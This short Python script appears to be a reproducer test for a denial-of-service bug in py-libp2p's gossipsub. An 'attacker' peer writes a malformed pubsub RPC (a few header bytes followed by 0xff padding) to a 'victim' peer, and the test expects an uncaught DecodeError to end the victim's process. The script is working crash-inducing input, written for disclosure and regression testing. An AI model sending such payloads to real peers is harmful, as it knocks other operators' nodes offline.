"""A pubsub RPC that does not parse ends the process of the peer that reads it."""

import trio
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from stock import connect, peer, run, tell


async def main() -> int:
    async with peer() as (victim, _), peer() as (attacker, _):
        await connect(attacker, victim)
        stream = await attacker.new_stream(victim.get_id(), [PROTOCOL_ID_V11])
        await stream.write(b"\x0b\x0a" + b"\xff" * 10)
        await trio.sleep(2)
    return tell(False, "the victim lives")


run(main, dies="DecodeError escapes Pubsub.stream_handler and ends the process")
